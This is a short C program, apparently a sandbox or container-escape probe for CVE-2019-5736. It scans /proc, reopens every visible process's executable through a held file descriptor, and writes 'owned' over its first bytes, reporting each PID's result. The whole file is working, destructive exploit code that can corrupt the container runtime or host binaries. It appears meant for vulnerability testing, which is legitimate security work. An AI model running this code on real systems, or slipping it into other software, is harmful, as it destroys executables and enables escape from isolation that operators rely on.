// overwrite: tries to replace the programs that the processes it can see execute, its own aside (CVE-2019-5736): opens
// /proc/PID/exe, and through the descriptor the same file for writing. One `PID: RESULT` a line.
// As a credential helper it runs while its parent is whatever the image made PID 1.
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <unistd.h>

static void attack(const char *pid, const struct stat *own)
{
	const int flags[] = { O_WRONLY, O_RDWR, O_WRONLY | O_APPEND };
	char path[300];
	struct stat found;
	int held;

	snprintf(path, sizeof path, "/proc/%s/exe", pid);
	held = open(path, O_RDONLY);
	if (held < 0) {
		printf("%s: %s\n", pid, strerror(errno));
		return;
	}
	fstat(held, &found);
	if (found.st_dev == own->st_dev && found.st_ino == own->st_ino)
		return;
	snprintf(path, sizeof path, "/proc/self/fd/%d", held);
	for (int i = 0; i < 3; i++) {
		int fd = open(path, flags[i]);
		if (fd >= 0) {
			printf("%s: %s\n", pid, pwrite(fd, "owned", 5, 0) == 5 ? "OVERWRITTEN" : "opened for writing");
			return;
		}
	}
	printf("%s: held, not writable: %s\n", pid, strerror(errno));
}

int main(void)
{
	struct stat own;
	DIR *proc = opendir("/proc");

	stat("/proc/self/exe", &own);
	for (struct dirent *entry; proc && (entry = readdir(proc));)
		if (atoi(entry->d_name) > 0)
			attack(entry->d_name, &own);
	return 0;
}
